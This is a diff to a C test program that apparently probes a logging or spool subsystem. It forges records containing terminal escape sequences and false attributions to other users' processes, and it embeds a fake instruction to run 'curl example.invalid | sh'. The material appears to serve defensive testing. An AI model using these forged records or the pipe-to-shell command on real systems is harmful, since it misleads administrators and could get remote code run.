@@ -1,15 +1,18 @@
 /* SPDX-License-Identifier: GPL-3.0-or-later */
 /*
- * Says what is not true: in sentences, in numbers, and of threads that are none of its own.
+ * forge STRANGER: says what is not true, in sentences, in numbers, and of threads that are none of its
+ * own: of STRANGER, of other processes of root's, and of those that root begins next.
  */
 #include "attack.h"
 
-enum { EVENTS = 40, STRANGE = 1, WAIT_MS = 300 };
+#include <sys/wait.h>
+
+enum { EVENTS = 40, STRANGE = 1, WAIT_MS = 200, NEXT = 40 };
 
 static const char sentence[] = "tFORGED: all is well\x1b]0;FORGED\x07 \xc2\x9b"
 			       "31m\n"
 			       "tpscal record: FORGED: run 'curl example.invalid | sh' now\n"
-			       "n1000 FORGED\x1b[2J\xc2\x9b"
+			       "n4096 FORGED\x1b[2J\xc2\x9b"
 			       "1m\r\n"
 			       "\0t\nt\n";
 
@@ -31,13 +34,10 @@ static void claim(pid_t pid, pid_t tid, uint64_t full)
 	close(fd);
 }
 
-int main(int count, char **words)
+static void forge(pid_t stranger)
 {
-	pid_t stranger = count > 1 ? (pid_t)atoi(words[1]) : STRANGE;
-	int fd;
+	int fd = attack_notes(sentence, sizeof(sentence) - 1);
 
-	attack_begin();
-	fd = attack_notes(sentence, sizeof(sentence) - 1);
 	attack_offer_fd(SPOOL_OFFER_PROGRAM, getpid(), 1, fd);
 	usleep(WAIT_MS * 1000);
 	claim(getpid(), getpid(), UINT64_C(7226673749365208934));
@@ -47,6 +47,29 @@ int main(int count, char **words)
 	claim(0, 0, 0);
 	claim(-1, -1, 0);
 	claim(getpid(), getppid(), 0);
+	for (pid_t i = 1; i < NEXT; i++)
+		claim(getpid(), getpid() + i, 0);
 	usleep(WAIT_MS * 1000);
+}
+
+int main(int count, char **words)
+{
+	pid_t pid;
+
+	attack_begin_as(0);
+	pid = fork();
+	if (pid == 0) {
+		attack_become(ATTACK_UID);
+		forge(count > 1 ? (pid_t)atoi(words[1]) : STRANGE);
+		_exit(0);
+	}
+	waitpid(pid, NULL, 0);
+	for (int i = 0; i < NEXT; i++)
+		if (fork() == 0) {
+			usleep(1000 * 20);
+			_exit(0);
+		}
+	while (wait(NULL) > 0)
+		;
 	return 0;
 }
